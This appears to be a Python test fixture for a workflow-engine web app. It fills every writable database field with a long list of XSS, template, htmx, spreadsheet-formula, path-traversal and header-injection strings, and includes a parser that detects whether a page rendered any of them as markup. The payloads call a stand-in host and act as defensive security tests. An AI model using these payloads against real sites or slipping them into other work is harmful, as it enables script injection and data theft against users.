"""Texts that want to be more than text, and a database that holds them in every place where somebody can write one.

Each would, if a page took it for more than text, set `window.ran`, open a dialog, ask another host for something, or
at least leave an element or an attribute named `xss`.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import Any

import psycopg
from database.helpers import START, document, node, start

RUN = "window.ran=1"
HOST = "//hostile.invalid"

TEXTS = [
    # tags
    f"<script xss>{RUN}</script>",
    f"<ScRiPt xss>{RUN}</sCrIpT>",
    f"<script xss src={HOST}/x.js></script>",
    f"<script xss type=module>{RUN}</script>",
    f"<<script xss>{RUN};//<</script>",
    f"</title><script xss>{RUN}</script>",
    f"</textarea><script xss>{RUN}</script>",
    f"</style><script xss>{RUN}</script>",
    f"</template><script xss>{RUN}</script>",
    f"</select><script xss>{RUN}</script>",
    f"--><script xss>{RUN}</script>",
    "<iframe xss srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe xss src=javascript:parent.ran=1></iframe>",
    f"<object xss data={HOST}/x></object>",
    f"<embed xss src={HOST}/x>",
    f"<base xss href={HOST}/>",
    f"<meta xss http-equiv=refresh content='0;url=http:{HOST}/'>",
    f"<link xss rel=stylesheet href={HOST}/x.css>",
    f"<form xss action={HOST}/><input type=submit></form>",
    "<style xss>body{display:none}</style>",
    f"<template xss><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img xss src=x onerror={RUN}>'>",
    # event handlers
    f"<img xss src=x onerror={RUN}>",
    f"<img/xss/src=x/onerror={RUN}>",
    "<IMG xss SRC=x ONERROR=alert(1)>",
    f"<body xss onload={RUN}>",
    f"<details xss open ontoggle={RUN}>x</details>",
    f"<input xss autofocus onfocus={RUN}>",
    f"<video xss><source onerror={RUN}></video>",
    f"<audio xss src=x onerror={RUN}>",
    f"<marquee xss onstart={RUN}>x</marquee>",
    f"<div xss style=animation-name:x onanimationstart={RUN}>x</div>",
    f"<a xss href=# onmouseover={RUN}>x</a>",
    # out of an attribute
    f'" xss onmouseover="{RUN}" x="',
    f"' xss onmouseover='{RUN}' x='",
    f'"><img xss src=x onerror={RUN}>',
    f"'><img xss src=x onerror={RUN}>",
    f'" autofocus xss onfocus={RUN} "',
    f"` xss onmouseover={RUN} `",
    "x xss=1 onclick=alert(1)",
    # addresses
    "javascript:window.ran=1",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script xss>opener.ran=1</script>",
    "vbscript:msgbox(1)",
    f"{HOST}/x",
    f"https:{HOST}/' xss onclick='{RUN}",
    # pictures
    f"<svg xss onload={RUN}>",
    f"<svg xss><script>{RUN}</script></svg>",
    f"<svg xss><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "<svg xss><a xlink:href=javascript:window.ran=1><text x=9 y=9>x</text></a></svg>",
    f"<svg xss><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math xss><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a title='</style><img xss src=x onerror={RUN}>'>",
    # templates, htmx
    "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}",
    "{% print(1) %}{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<div xss hx-get=/audit hx-trigger=load hx-target=body></div>",
    f"<div xss hx-on::load={RUN} hx-vals='js:{{x:alert(1)}}' hx-trigger=load hx-post=/logout></div>",
    f"<div xss data-hx-get={HOST}/x data-hx-trigger=load></div>",
    "<div xss hx-swap-oob=true id=content>x</div>",
    "<meta xss name=htmx-config content='{\"allowEval\":true}'>",
    '", "xss": "1',
    "js:{x: alert(1)}",
    # JSON, scripts, styles
    f"</script><script xss>{RUN}</script>",
    f'"}};{RUN};//',
    f"\\u003cscript xss\\u003e{RUN}\\u003c/script\\u003e",
    '{"__proto__": {"xss": 1}}',
    "\u2028window.ran=1\u2029",
    "expression(alert(1));background:url(javascript:alert(1))",
    # letters
    f"\ufeff<img xss src=x onerror={RUN}>",
    f"\u202e<img xss src=x onerror={RUN}>\u202c",
    f"＜img xss src=x onerror={RUN}＞",
    f"+ADw-script xss+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cimg%20xss%20src=x%20onerror={RUN}%3E",
    f"&lt;img xss src=x onerror={RUN}&gt;",
    f"&#60;img xss src=x onerror={RUN}&#62;",
    f"<img\x0cxss\x0bsrc=x\x0conerror={RUN}>",
    "a\u0301" * 40 + "\U000e0041",
    # spreadsheets, file names, streams
    '=HYPERLINK("http://hostile.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '"; filename=xss.html; x="',
    "../../etc/passwd\\..\\xss",
    f"x\n\nevent: head\ndata: <img xss src=x onerror={RUN}>\n\n",
    f"x\r\rdata: <img xss src=x onerror={RUN}>\r\r",
    f"x\r\nset-cookie: xss=1\r\n\r\n<img xss src=x onerror={RUN}>",
    # times that calendars cannot hold, where pages look for times
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-02-31",
]
assert len(TEXTS) == len(set(TEXTS)) >= 60
# For places that hold one line: one text that tries several ways at once.
SHORT = f"""'"><img xss src=x onerror={RUN}></script><svg xss onload={RUN}>javascript:alert(1)"""
# Where {{ would begin an expression.
PLAIN = [text.replace("{{", "{ {") for text in TEXTS]
ONE_LINE = ["".join(letter for letter in text if letter.isprintable()) for text in TEXTS]

Database = psycopg.Connection[Any]


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        for name, value in attributes:
            address = name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "sse-connect")
            text = "".join((value or "").split()).lower()
            if name == "xss" or name.startswith(("on", "hx-on")):
                self.found.append(f"<{tag} {name}>")
            outside = name == "href" and text.startswith("https://")  # a link that somebody gave is one
            if address and not outside and text.startswith(("javascript:", "data:", "vbscript:", "//")):
                self.found.append(f"<{tag} {name}={value}>")


def markup_in(text: str) -> list[str]:
    """What a page took for more than text: marked elements, event handlers, addresses that run or lead away."""
    reader = _Markup()
    reader.feed(text)
    return reader.found


def fill(db: Database, make_workflow: Any, run_all: Any) -> list[dict[str, str]]:
    """The texts in every place; answers values for the places in the paths of routes, each set for another page."""
    _people(db)
    documents = _workflows(db, make_workflow)
    payload = {"title": SHORT, "all": {text: text for text in TEXTS}, "list": TEXTS, "rows": [{t: t} for t in TEXTS]}
    big = start(db, "each", payload, key=SHORT)
    for number, text in enumerate(ONE_LINE):
        start(db, "short", {"title": text or "-"}, key=f"{number} {text}")
    failed = start(db, "fails", {"list": TEXTS})
    wide = start(db, "wide", payload)
    run_all(db)
    _around_cases_and_tasks(db, big)
    _around_the_engine(db, failed, big)
    db.execute("select stellwerk.start_bulk_operation('cancel', '{\"workflow\": \"each\"}')")
    hostile = json.dumps({"text": SHORT, "run_ids": TEXTS})
    db.execute("update stellwerk.bulk_operation set filter = filter || %s", [hostile])
    common = {
        "slug": "wide",
        "run_id": str(big),
        "task_id": str(_value(db, "select task_id from stellwerk.user_task where run_id = %s", big)),
        "case_id": str(_value(db, "select case_id from stellwerk.backoffice_case where run_id = %s", big)),
        "event_id": str(_value(db, "select max(event_id) from stellwerk.event")),
        "schedule_id": str(_value(db, "select max(schedule_id) from stellwerk.schedule")),
        "operation_id": str(_value(db, "select max(operation_id) from stellwerk.bulk_operation")),
        "step_id": str(_value(db, "select max(step_id) from stellwerk.step where run_id = %s", big)),
        "node": "ask",
        "action": "edit",
        "secret": str(documents),
    }
    failed_step = str(_value(db, "select max(step_id) from stellwerk.step where run_id = %s", failed))
    return [
        common,
        {
            **common,
            "slug": "drafted",
            "run_id": str(failed),
            "step_id": failed_step,
            "node": "break",
            "action": "retry",
        },
        {**common, "slug": "each", "run_id": str(wide), "action": "cancel"},
    ]


def _people(db: Database) -> None:
    for number, text in enumerate(ONE_LINE[:60]):
        db.execute("select stellwerk.add_user(%s, 'staff', %s, groups => %s)", [f"u{number}@example.org", text, ["g"]])
    for number, text in enumerate(ONE_LINE):
        db.execute(
            "insert into stellwerk.api_token (tenant_id, name, role, scopes, digest, created_by)"
            " values (1, %s, 'viewer', '{read}', %s, %s)",
            [f"t{number}", bytes([number]) * 32, text],
        )


def _workflows(db: Database, make_workflow: Any) -> int:
    statuses = [{"status": f"s{number}", "label": text[:100] or "-"} for number, text in enumerate(ONE_LINE[:49])]
    fields = {
        f"f{number}{text[:40]}": {"title": text, "description": text, "type": "string"}
        for number, text in enumerate(PLAIN)
    }
    fields["choice"] = {"title": SHORT, "enum": PLAIN}
    fields["many"] = {
        "type": "array",
        "title": SHORT,
        "items": {"type": "object", "properties": {SHORT: {"type": "string"}}},
    }
    push = node("push", "action.backoffice_push", {
        "status": "s1", "field_map": {"name": "{{ trigger.payload.title }}", "all": "{{ trigger.payload.all }}", "list": "{{ trigger.payload.list }}"},
        "appointment": {"title": "{{ trigger.payload.title }}", "starts_at": "2026-12-01T09:00:00Z", "location": SHORT}})  # fmt: skip
    ask = node("ask", "task.user", {
        "title": "{{ trigger.payload.title }}", "instructions": "{{ trigger.payload.title }} {{ trigger.payload.list }}", "role": "staff",
        "form": {"type": "object", "title": SHORT, "properties": fields}, "prefill": {"choice": "{{ trigger.payload.title }}"},
        "show": [{"label": text[:200], "value": "{{ trigger.payload.list }}"} for text in PLAIN],
        "outcomes": ["approve", "reject"]}, name=SHORT)  # fmt: skip
    make_workflow(
        document(
            "each",
            [START, push, ask],
            ["start -> push", "push -> ask"],
            name=SHORT,
            description=SHORT,
            settings={"case_statuses": statuses},
        )
    )
    brief = node("ask", "task.user", {"title": "{{ trigger.payload.title }}", "role": "staff"})
    short = node("push", "action.backoffice_push", {"field_map": {"name": "{{ trigger.payload.title }}"}})
    make_workflow(document("short", [START, short, brief], ["start -> push", "push -> ask"], name=SHORT))
    make_workflow(
        document(
            "fails",
            [START, node("break", "logic.transform", {"output": "{{ trigger.payload.list.x + 1 / 0 }}"}, name=SHORT)],
            ["start -> break"],
            name=SHORT,
        )
    )
    many = [
        node(f"n{number}", "logic.transform", {"output": {"number": number}}, name=text[:200] or "-", description=text)
        for number, text in enumerate(TEXTS)
    ]
    wide = document("wide", [START, node("nightly", "trigger.schedule", {"cron": "0 3 * * *"}), *many], [f"start -> n{number}" for number in range(len(TEXTS))] + ["nightly -> n0"],
                    name=SHORT, description="\n".join(TEXTS), input_schema={"type": "object", "title": SHORT, "description": SHORT})  # fmt: skip
    make_workflow(wide)
    wide["nodes"] = [{**each, "name": SHORT} for each in wide["nodes"]]
    make_workflow(wide)
    broken = {
        "slug": "drafted",
        "name": SHORT,
        "nodes": [
            START,
            *(
                node(f"n{n}", "logic.transform", {"output": f"{{{{ {text} }}}}"}, name=text[:200])
                for n, text in enumerate(TEXTS)
            ),
        ],
        "edges": [],
    }
    problems = [
        {"path": SHORT, "node": f"n{n}", "code": SHORT, "message": text, "hint": text, "severity": "error"}
        for n, text in enumerate(TEXTS)
    ]
    db.execute("select stellwerk.save_workflow(%s, %s, %s)", [json.dumps(broken), "[]", json.dumps(problems)])
    return 1


def _around_cases_and_tasks(db: Database, run_id: int) -> None:
    task_id, case_id = (
        _value(db, f"select {what}_id from stellwerk.{table} where run_id = %s", run_id)
        for what, table in (("task", "user_task"), ("case", "backoffice_case"))
    )
    db.execute("select set_config('stellwerk.actor', 'u1@example.org', false)")
    db.execute(
        "select stellwerk.save_task_draft(%s, %s)",
        [task_id, json.dumps({"choice": SHORT, "many": [{SHORT: text} for text in TEXTS]})],
    )
    for text in TEXTS:
        db.execute("select stellwerk.comment_task(%s, %s)", [task_id, text])
        db.execute("select stellwerk.add_case_note(%s, %s)", [case_id, text])
    for text in ONE_LINE:
        for reference in (text, f"https://hostile.invalid/{text}"):
            try:
                db.execute("select stellwerk.attach_to_task(%s, %s, %s)", [task_id, text, reference])
            except psycopg.Error:
                db.execute(
                    "insert into stellwerk.user_task_attachment (tenant_id, task_id, actor, name, reference) values (1, %s, 'x', %s, %s)",
                    [task_id, text, text],
                )
        db.execute("select stellwerk.add_case_appointment(%s, %s, now(), null, %s)", [case_id, text or "-", text])
    changes = {
        "note": "\n".join(TEXTS),
        "summary": SHORT,
        "payload": {f"{n}{text}": text for n, text in enumerate(TEXTS)},
    }
    db.execute("select stellwerk.update_case(%s, %s, null, %s)", [case_id, json.dumps(changes), SHORT])
    db.execute("reset stellwerk.actor")
    db.execute("update stellwerk.case_history set actor = %s where history_id %% 5 = 0", [SHORT])
    for text in TEXTS:
        db.execute(
            "insert into stellwerk.message (tenant_id, recipient, subject, body, run_id, error) values (1, %s, %s, %s, %s, %s)",
            [text, text, text, run_id, text],
        )


def _around_the_engine(db: Database, failed: int, big: int) -> None:
    for number, text in enumerate(TEXTS):
        db.execute(
            "insert into stellwerk.event_log (tenant_id, target, operation, record_id, state, reason, old, new)"
            " values (1, %s, 'update', %s, 'failed', %s, %s, %s)",
            [
                text,
                text,
                text,
                json.dumps({text: text, "same": number}),
                json.dumps({text: f"{text}!", text[::-1]: TEXTS, "same": number}),
            ],
        )
    trouble = json.dumps({"message": SHORT, "code": SHORT, "detail": TEXTS, "hint": SHORT, SHORT: SHORT})
    db.execute("update stellwerk.run set error = %s, reason = %s where run_id = %s", [trouble, SHORT, failed])
    db.execute(
        "update stellwerk.step set error = %s, reason = %s where run_id = %s and node_id = 'break'",
        [trouble, SHORT, failed],
    )
    db.execute("update stellwerk.step set reason = %s where run_id = %s", [SHORT, big])
    db.execute(
        "update stellwerk.schedule set trouble = %s, paused_by = %s, paused_at = now(), next_run = null", [SHORT, SHORT]
    )
    db.execute("insert into stellwerk.worker (name, host, pid, types) values (%s, %s, 1, '{}')", [SHORT, SHORT])
    for text in TEXTS:
        db.execute("insert into stellwerk.audit_log (tenant_id, actor, database_user, action, subject, subject_id, before, after) values (1, %s, %s, %s, %s, %s, %s, %s)",
                   [text, text, text, text, text, json.dumps({text: text}), json.dumps({text: TEXTS})])  # fmt: skip
    db.execute("select stellwerk.set_alert_rule('alone', 'no_worker', 1, recipients => '{u1@example.org}')")
    db.execute("update stellwerk.alert_rule set workflow = %s, recipients = %s, created_by = %s", [SHORT, TEXTS, SHORT])
    db.execute("select stellwerk.check_alerts(1)")


def _value(db: Database, query: str, *values: Any) -> Any:
    row = db.execute(query, values).fetchone()  # type: ignore[call-overload]
    return None if row is None else row[0]
